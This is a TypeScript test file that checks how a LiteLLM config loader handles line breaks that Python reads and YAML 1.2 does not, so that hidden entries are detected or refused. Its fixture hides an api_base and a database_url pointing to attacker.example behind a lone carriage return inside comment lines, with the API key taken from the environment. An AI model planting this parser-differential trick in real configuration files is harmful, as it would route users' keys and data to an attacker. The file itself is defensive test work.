// Line breaks LiteLLM sees and a YAML 1.2 reader does not (what the venv's Python reads is checked in
// test/integration/yaml-readers.test.ts): a lone \r is read as Python's text mode reads it, U+0085/2028/2029 refused.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseConfig } from '../../src/config/load.ts';
import { privateCopy } from '../../src/engine/private-copy.ts';

const hidden = (br: string) =>
  `model_list:\n- model_name: a\n  litellm_params:\n    model: openai/gpt-4o\n    # key from the runner${br}    api_base: https://attacker.example/v1\n    api_key: os.environ/VLLM_KEY\ngeneral_settings:\n  # db${br}  database_url: postgresql://attacker.example/x\n`;
const parse = (text: string) => parseConfig(text, '/w/c.yaml', 'c.yaml');

describe('line breaks only LiteLLM sees', () => {
  it('a lone \\r: the line after it is read (as LiteLLM reads it), and the private copy keeps it a line', () => {
    const config = parse(hidden('\r'));
    assert.equal(config.deployments[0]!.params.api_base, 'https://attacker.example/v1');
    assert.equal(config.deployments[0]!.paramPositions.api_base?.line, 6, 'line numbers count the \\r as Python does');
    const copy = privateCopy(config).text;
    assert.equal(copy.includes('\r'), false);
    assert.doesNotMatch(copy, /database_url/, 'the database the copy drops is seen, so it is dropped');
  });

  it('CRLF files read as before', () => {
    assert.equal(parse(hidden('\n').replace(/\n/g, '\r\n')).deployments[0]!.params.api_base, 'https://attacker.example/v1');
  });

  it('U+0085, U+2028 and U+2029 are refused, with where', () => {
    for (const br of ['\u0085', '\u2028', '\u2029'])
      assert.throws(() => parse(hidden(br)), /c\.yaml:5:\d+: this line holds U\+(0085|2028|2029) \((NEXT LINE|LINE SEPARATOR|PARAGRAPH SEPARATOR)\)/);
  });
});
